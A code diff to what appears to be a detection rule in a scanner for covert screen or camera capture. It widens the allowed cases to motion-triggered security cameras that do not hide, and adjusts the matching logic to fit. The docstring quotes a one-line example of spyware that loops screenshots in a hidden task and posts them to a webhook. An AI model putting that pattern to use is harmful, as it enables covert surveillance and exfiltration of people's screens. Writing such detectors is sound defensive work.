@@ -16,7 +16,9 @@ Example
     `while True: ImageGrab.grab().save(p); requests.post(WEBHOOK, files=...)` in a hidden task.
 
 Allowed instead
-    A screenshot tool the user triggers, disclosed monitoring, video-call code, a clipboard
+    A screenshot tool the user triggers, a security camera that records and notifies its owner
+    when motion is detected (frames differenced, a background subtractor, a PIR sensor) and
+    does not hide, disclosed monitoring, video-call code, a clipboard
     manager or a clipboard sync between one's own machines (kept in view, sent to one's own
     server rather than a chat webhook or a mailbox).
 """
@@ -43,7 +45,9 @@ def covert_capture(found: Capabilities) -> Detection | None:
     source = sources[0]
     channel = [c for c in _CHANNELS if c in found]
     stealth = [c for c in _STEALTH if c in found]
-    if channel and stealth:
+    if channel and stealth and (Cap.HIDE in stealth or Cap.MOTION_TRIGGERED not in found):
+        # A camera that records when the picture changes or a motion sensor fires watches a
+        # door or a room for its owner; one that also hides itself is still covert.
         core = (source, *channel, *stealth)
         return supported(
             found,
